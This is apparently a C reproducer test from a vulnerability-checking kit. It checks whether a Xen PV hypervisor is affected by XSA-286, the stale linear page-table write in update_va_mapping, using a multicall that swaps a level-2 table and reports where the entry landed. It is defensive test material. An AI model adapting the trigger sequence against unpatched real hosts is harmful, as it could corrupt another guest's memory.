/* SPDX-License-Identifier: MIT */
/*
 * XSA-286 (CVE-2020-27674): Xen's own translations of page tables, stale.
 *
 * @title     update_va_mapping writes below the table that was there before
 * @advisory  https://xenbits.xen.org/xsa/advisory-286.html
 * @affected  Xen up to 4.14.0; fixed in 4.14.1
 * @platforms xen-pv
 * @expect    4.14.1+=good
 *
 * Background: a guest that changes an upper level of its page tables decides when to flush the TLB.
 * It does not know which translations Xen itself uses.
 *
 * Mechanism: update_va_mapping used Xen's linear page tables, a range of addresses whose
 * translations depend on the upper levels and are cached in the TLB as well. After a change of an
 * upper level without a flush, Xen wrote into the old table, which could be another guest's frame
 * by then.
 *
 * Here all tables are this guest's. One multicall makes Xen use the old table, exchanges the table
 * of level 2 of a region, and writes an entry below the new one. It exchanges a table of level 2
 * because Xen finds the table of level 1 in an entry of level 2, which it reads at a linear address
 * whose translation depends on levels 3 and 4 only. Both tables are pinned, because Xen flushes the
 * TLB when a frame becomes a table or stops being one.
 *
 * Verdicts: good: the entry is below the new table. bad: it is below the old one.
 *
 * Cannot tell: where the TLB of this CPU does not keep the old translation, good may mean only
 * that. QEMU's emulated CPU keeps it: the positive control shows it.
 */
#include "repro/kit.h"

#define TABLE (PTE_PRESENT | PTE_WRITE | PTE_ACCESSED | PTE_USER)
#define DATA  (PTE_PRESENT | PTE_ACCESSED | PTE_NX)
#define INDEX 5

static u64 *table_in(u64 entry)
{
    return pfn_to_va(pv_mfn_to_pfn(MFN((entry & PTE_FRAME_MASK) >> PAGE_SHIFT)));
}

static void pin_level2(const void *table)
{
    struct mmuext_op op = {.cmd = MMUEXT_PIN_L2_TABLE, .arg1.mfn = kit_mfn(table)};

    MUST(hc_mmuext_op(&op, 1, NULL, DOMID_SELF));
}

/* Return a table of level 2 with the region's entry only: a table of level 1 that maps nothing. */
static u64 *make_level2(u64 region, const u64 *leaves)
{
    u64 *table = kit_frame();

    table[region >> 21 & 511] = KIT_RAW(leaves, TABLE);
    pv_announce_table(va_to_pfn(table), 2);
    pin_level2(table);
    return table;
}

REPRO("xsa-286")
{
    u64 region, va, *old_leaves, *new_leaves, page;
    struct mmu_update exchange;
    struct multicall_entry calls[3];

    kit_needs(KIT_XEN_PV);
    region = kit_region();
    va = region + INDEX * PAGE_SIZE;
    old_leaves = table_in(kit_entry(region, 2));
    pin_level2(table_in(kit_entry(region, 3)));
    new_leaves = kit_table();
    page = KIT_RAW(kit_frame(), DATA);
    exchange.ptr = kit_entry_address(region, 3);
    exchange.val = KIT_RAW(make_level2(region, new_leaves), TABLE);
    calls[0] = MULTICALL(__HYPERVISOR_update_va_mapping, va, 0, 0);
    calls[1] = MULTICALL(__HYPERVISOR_mmu_update, (u64)&exchange, 1, 0, DOMID_SELF);
    calls[2] = MULTICALL(__HYPERVISOR_update_va_mapping, va, page, 0);
    for (u32 i = 0; i < 3; i++)
        calls[i].result = (unsigned long)KIT_NOT_MADE;
    STEP MUST(hc_multicall(calls, 3));
    for (u32 i = 0; i < 3; i++)
        MUST((long)calls[i].result);
    if (READ_ONCE(new_leaves[INDEX]) == 0 && READ_ONCE(old_leaves[INDEX]) == 0)
        cannot_tell("the entry is in neither table");
    exercised();
    if (READ_ONCE(new_leaves[INDEX]) && !READ_ONCE(old_leaves[INDEX]))
        good("the entry is below the new table");
    bad("the entry is below the old table: 0x%llx, 0x%llx below the new one",
        (unsigned long long)old_leaves[INDEX], (unsigned long long)new_leaves[INDEX]);
}
